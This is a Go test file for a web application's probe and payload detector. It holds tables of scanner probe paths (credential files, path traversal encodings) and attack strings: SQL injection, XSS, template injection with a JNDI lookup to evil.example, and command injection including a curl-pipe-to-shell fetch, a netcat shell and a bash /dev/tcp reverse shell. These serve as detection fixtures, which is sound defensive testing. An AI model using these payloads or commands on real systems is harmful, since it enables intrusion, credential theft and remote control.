package security

import (
	"strings"
	"testing"
)

func TestProbePath(t *testing.T) {
	probes := []string{
		"/.env", "/.env.production", "/app/.env", "/.git/config", "/.git/HEAD", "/.svn/entries",
		"/.aws/credentials", "/.ssh/id_rsa", "/.DS_Store", "/.htaccess", "/static/.git/config",
		"/wp-login.php", "/wp-admin/", "/WP-ADMIN/install.php", "/blog/wp-includes/wlwmanifest.xml",
		"/xmlrpc.php", "/phpmyadmin/", "/phpMyAdmin/index.php", "/pma/", "/myadmin/",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/vendor/",
		"/cgi-bin/luci", "/cgi-bin/test.cgi", "/actuator", "/actuator/health", "/server-status",
		"/config.json", "/boaform/admin/formLogin", "/HNAP1/", "/GponForm/diag_Form",
		"/manager/html", "/solr/admin/info/system", "/_ignition/execute-solution", "/telescope/requests",
		"/index.php", "/kb/index.php", "/admin/config.php", "/default.aspx", "/owa/auth/logon.aspx",
		"/login.jsp", "/struts2-showcase/index.action", "/backup.sql", "/db.sql", "/site.tar.gz",
		"/backup.zip", "/debug.log", "/php.ini", "/web.config", "/docker-compose.yml",
		"/static/../../etc/passwd", "/../etc/passwd", "/kb/..", `/static/..\..\windows\win.ini`,
		"/..;/admin", "/%2e%2e/%2e%2e/etc/passwd", "/static/%2E%2E/config", "/.%2e/.%2e/etc/passwd",
		"/..%2fetc%2fpasswd", "/%2e%2e%2fetc", "/%252e%252e/etc/passwd", "/%c0%ae%c0%ae/etc/passwd",
		"/kb/article%00.html", "/kb/a\x00b", "/%2eenv", "/.well-known/../.env",
	}
	for _, p := range probes {
		if sig, ok := ProbePath(p); !ok {
			t.Errorf("ProbePath(%q) = not a probe, want a probe", p)
		} else if !strings.HasPrefix(sig, "probe: ") {
			t.Errorf("ProbePath(%q) sig = %q, want the probe: prefix", p, sig)
		}
	}

	ours := []string{
		"/", "/kb", "/kb/", "/kb/how-to-reset-your-password", "/kb/phpmyadmin", "/kb/wordpress",
		"/kb/vendor", "/kb/manager", "/kb/debug", "/static/app.css", "/static/htmx.min.js",
		"/static/vendor/htmx-2.0.4.min.js", "/static/passkey.js", "/static/img/logo.svg",
		"/admin/", "/admin/tickets", "/admin/kb", "/admin/kb/new", "/admin/staff", "/admin/sessions",
		"/admin/security", "/admin/backups", "/admin/settings", "/admin/login", "/admin/audit",
		"/api/v1/tickets", "/api/v1/tickets/12", "/api/v1/openapi.json", "/tickets/12", "/tickets/new",
		"/tickets", "/chat", "/verify", "/privacy", "/security", "/me/export", "/me/delete",
		"/healthz", "/readyz", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/apple-touch-icon.png",
		"/.well-known/security.txt", "/.well-known/acme-challenge/abc-123_x",
		"/kb/search?q=../../etc/passwd", "/chat?x=.env", "/kb/v1.2-release-notes", "/kb/what-s-new",
	}
	for _, p := range ours {
		if sig, ok := ProbePath(p); ok {
			t.Errorf("ProbePath(%q) = %q, want no probe", p, sig)
		}
	}
}

func TestScanPayload(t *testing.T) {
	attacks := []struct{ in, family string }{
		{"' or 1=1--", "sql"},
		{"admin'--", "sql"},
		{"admin' #", "sql"},
		{"' OR '1'='1", "sql"},
		{`" or ""="`, "sql"},
		{"1 OR 1=1", "sql"},
		{"1) or (1=1", "sql"},
		{"x' AND 'a'='a", "sql"},
		{"' or username like '%admin%", "sql"},
		{"x' UNION SELECT username, password FROM users--", "sql"},
		{"1 union all select null,null", "sql"},
		{"1/**/UNION/**/SELECT/**/1,2,3", "sql"},
		{"1 AND SLEEP(5)", "sql"},
		{"1;select pg_sleep(10)", "sql"},
		{"1; WAITFOR DELAY '0:0:5'", "sql"},
		{"1 AND BENCHMARK(5000000,MD5(1))", "sql"},
		{"1; DROP TABLE users", "sql"},
		{"'; drop database safedesk; --", "sql"},
		{"1 and extractvalue(1,concat(0x7e,version()))", "sql"},
		{"1 and (select count(*) from information_schema.tables)>0", "sql"},
		{"1; exec master..xp_cmdshell 'dir'", "sql"},
		{"1 union select 1 into outfile '/var/www/x'", "sql"},
		{"select @@version", "sql"},
		{"<script>alert(1)</script>", "xss"},
		{"<ScRiPt src=//evil.example/x.js></script>", "xss"},
		{`"><iframe src=//evil.example>`, "xss"},
		{"javascript:alert(document.cookie)", "xss"},
		{"java\tscript:alert(1)", "xss"},
		{"<img src=x onerror=alert(1)>", "xss"},
		{"<svg/onload=alert(1)>", "xss"},
		{"<body onload = alert('x')>", "xss"},
		{"<svg><animate onbegin=x() attributeName=x>", "xss"},
		{"<details open ontoggle=fetch('//x')>", "xss"},
		{"prompt`1`", "xss"},
		{"data:text/html;base64,PHNjcmlwdD4=", "xss"},
		{"{{7*7}}", "template"},
		{"{{constructor.constructor('return this')()}}", "template"},
		{"${7*7}", "template"},
		{"${jndi:ldap://evil.example/a}", "template"},
		{"#{7*7}", "template"},
		{"<%= 7*7 %>", "template"},
		{"{% print(1) %}", "template"},
		{";cat /etc/passwd", "command"},
		{"| whoami", "command"},
		{"$(id)", "command"},
		{"`id`", "command"},
		{"&& curl http://evil.example/x.sh | sh", "command"},
		{"; ls -la", "command"},
		{"`sleep 10`", "command"},
		{"|| ping -c 10 127.0.0.1", "command"},
		{"; nc -e /bin/sh 10.0.0.1 4444", "command"},
		{"x; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "command"},
		{"$(nslookup x.evil.example)", "command"},
		{"../../../../etc/passwd", "traversal"},
		{"%2527%20or%201=1", "encoding"},
		{"%3Cscript%3Ealert(1)", "xss"},
	}
	for _, tt := range attacks {
		sig, ok := ScanPayload(tt.in)
		if !ok {
			t.Errorf("ScanPayload(%q) = no match, want a %s signature", tt.in, tt.family)
			continue
		}
		if !strings.HasPrefix(sig, tt.family+": ") {
			t.Errorf("ScanPayload(%q) = %q, want a %s signature", tt.in, sig, tt.family)
		}
	}

	benign := []string{
		"I can't log in -- please help",
		"select a size",
		"my order (1=1?)",
		"Hello, my name is O'Brien and I'd like a refund",
		"It's 'broken' or at least very slow",
		`He said "hello" and left`,
		"Tom & Jerry; cat food order #1234",
		"Please update my address; I moved.",
		"The union representative will select a date",
		"Price is $5 (approx) for 2 items",
		"I'm using JavaScript: is it required?",
		"javascript: it doesn't work (help)",
		"Email me at o'neil@example.com",
		"Order 12345 - size 10 1/2 - color 'navy blue'",
		"Why does the page onload take so long?",
		"I'd love a <3 on that",
		"5 < 6 and 7 > 3",
		"Use the {name} placeholder",
		"Ticket #42: the app keeps crashing",
		"I tried sleeping (8 hours) but I'm still tired",
		"Run the benchmark (again) tomorrow",
		"The drop-down menu won't open; drop me a line",
		`C:\Users\me\Documents\invoice.pdf`,
		"See https://example.com/path?a=1&b=2 for details",
		"50% off!!! -- limited time",
		"Shipping was slow -- 10 days -- and the box was damaged",
		"The setting 'auto-renew' is on; please turn it off",
		"I want to drop my subscription",
		"Where is my order? It's been 2 weeks & no reply",
		"Use code SAVE10 at checkout (one per order)",
		"choose red or blue = both fine",
		"I ran `npm install` and it failed",
		"Please run `ls -la` for me",
		"100% cotton? (yes/no)",
		"Why is the onboarding=true flag set?",
		"My kid typed <b>hello</b> in the box",
		"I'll be away; id card attached",
		"Send 2 | 3 units please",
		"please call me at +1 (555) 010-9999",
		"Say 'hi' -- thanks",
		"the '#1' rated product",
		"Can I pay with $(cash) on delivery?",
		"I'd like to confirm (yes) my booking",
		"alert me when it ships",
		"Is {{ }} supported in e-mail templates?",
		"Q&A section; cat was on the keyboard",
		"I have a question about data: text/html exports",
		"Please shutdown the old account; thanks",
		"rock & roll | sleep well",
		"Café crème, naïve résumé — ünïcödé 'ok' or not",
		"", " ", "ok",
	}
	for _, s := range benign {
		if sig, ok := ScanPayload(s); ok {
			t.Errorf("ScanPayload(%q) = %q, want no match", s, sig)
		}
	}
	if len(attacks) < 30 || len(benign) < 30 {
		t.Fatalf("tables too small: %d attacks, %d benign", len(attacks), len(benign))
	}
}

func TestProbeAllocations(t *testing.T) {
	tests := []struct {
		name string
		fn   func()
	}{
		{"ProbePath benign", func() { ProbePath("/kb/How-To-Reset-Your-Password") }},
		{"ProbePath probe", func() { ProbePath("/WP-ADMIN/setup-config.php") }},
		{"ScanPayload benign", func() { ScanPayload(benignPayload) }},
		{"ScanPayload attack", func() { ScanPayload("1' UNION SELECT password FROM staff--") }},
	}
	for _, tt := range tests {
		if n := testing.AllocsPerRun(100, tt.fn); n != 0 {
			t.Errorf("%s: %v allocations, want 0", tt.name, n)
		}
	}
}

const benignPayload = "Hi, I can't log in since Tuesday -- the code never arrives. " +
	"My order #1234 (size 10 1/2) was 'shipped' or so it says; please help!"

func BenchmarkProbePathBenign(b *testing.B) {
	paths := []string{"/kb/how-to-reset-your-password", "/static/css/app.css", "/tickets/12", "/admin/tickets"}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if _, ok := ProbePath(paths[i%len(paths)]); ok {
			b.Fatal("benign path flagged")
		}
	}
}

func BenchmarkScanPayloadBenign(b *testing.B) {
	b.ReportAllocs()
	b.SetBytes(int64(len(benignPayload)))
	for b.Loop() {
		if _, ok := ScanPayload(benignPayload); ok {
			b.Fatal("benign payload flagged")
		}
	}
}
